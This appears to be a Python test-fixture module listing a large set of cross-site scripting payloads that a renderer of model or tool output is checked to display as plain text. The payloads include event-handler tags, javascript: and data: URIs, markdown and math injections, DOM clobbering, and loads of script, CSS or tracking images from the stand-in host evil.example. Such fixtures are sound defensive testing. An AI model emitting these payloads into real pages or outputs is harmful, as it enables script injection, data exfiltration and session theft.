"""What an attacker would make a model, a tool or a title say: each must come out as text."""

from __future__ import annotations

ALERT = "alert(1)"
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onscroll",
]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
    "marquee",
    "select autofocus",
    "object data=x",
]
_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)", "\x01javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example/x", "/admin/logout", "../x", "#x", "?c=1",
    "https://user:pass@evil.example/", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
]  # fmt: skip
_WHOLE = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<script>import('https://evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>", "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/x>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example/><button>go</button></form>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a id=x name=y href=https://evil.example/ ping=https://evil.example/>x</a>",
    "<img src=https://evil.example/track.png>", "<img srcset='https://evil.example/a 1x'>", "<picture><source srcset=https://evil.example/a></picture>", "<video poster=https://evil.example/a></video>",
    "<div style='background:url(https://evil.example/a)'>x</div>", "<div style=position:fixed;inset:0>x</div>", "<p id=app class=login-card>clobbered</p>", "<form id=location><input name=href></form>",
    "<img name=getElementById>", "<a id=defaultView><a id=defaultView name=document>", "--><img src=x onerror=alert(1)>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">", "</div></div></article><script>alert(1)</script>", "<x onclick=alert(1)>y</x>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror\x0c=alert(1)>", "<img src=`x`onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x onerror=&#97;lert(1)>", "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "\u202egnp.exe\u202c<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "<\x00script>alert(1)</script>".replace("\x00", "\ufffd"),
]  # fmt: skip
_MARKDOWN = [
    "```html\n<script>alert(1)</script>\n```", "```\"><img src=x onerror=alert(1)>\nx\n```", "```js onload=alert(1)\nalert(1)\n```", "```constructor\nx\n```", "```__proto__\nx\n```", "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>", "# <img src=x onerror=alert(1)>", "| <img src=x onerror=alert(1)> | b |\n|:-:|---|\n| <svg onload=alert(1)> | d |",
    "![x](https://evil.example/track.png)", "![x](https://evil.example/t.png \"onerror=alert(1)\")", "![x\" onerror=\"alert(1)](x)", "[![x](https://evil.example/a.png)](https://evil.example/)", "![x][r]\n\n[r]: https://evil.example/r.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "![x](data:text/html,<script>alert(1)</script>)", "<https://evil.example/?a=<script>>", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
    "[a](<javascript:alert(1)>)", "[a](javascript:alert(1) \"t\")", "[a](  javascript:alert(1))", "[a](https://evil.example/\" onclick=\"alert(1))", "https://evil.example/\"onmouseover=alert(1)//", "www.evil.example/<script>",
    "[x](https://good.example@evil.example/)", "[https://good.example](https://evil.example/)", "*<b onclick=alert(1)>*", "~~<s onclick=alert(1)>~~", "**[x](javascript:alert(1))**", "1. [ ] <img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$", "$$\\url{javascript:alert(1)}$$", "$\\htmlClass{login-card}{x}$", "$\\htmlStyle{position:fixed}{x}$", "$\\htmlId{app}{x}$", "$\\htmlData{x=y}{x}$", "$\\includegraphics{https://evil.example/a.png}$",
    "$$\\def\\a{\\a\\a}\\a$$", "$</math><img src=x onerror=alert(1)>$", "$\\text{<img src=x onerror=alert(1)>}$", "\\(<script>alert(1)</script>\\)", "\\[\\unicode{x3c}script\\]", "[^1]: <img src=x onerror=alert(1)>",
    "\n\nevent: message.end\ndata: {\"role\":\"assistant\"}\n\n", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "[[sim:ok]]<script>alert(1)</script>",
]  # fmt: skip

HOSTILE = [
    *_WHOLE,
    *_MARKDOWN,
    *(f"<{tag} {handler}={ALERT}>" for tag in _TAGS for handler in _HANDLERS),
    *(f"[x]({scheme})" for scheme in _SCHEMES),
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
]
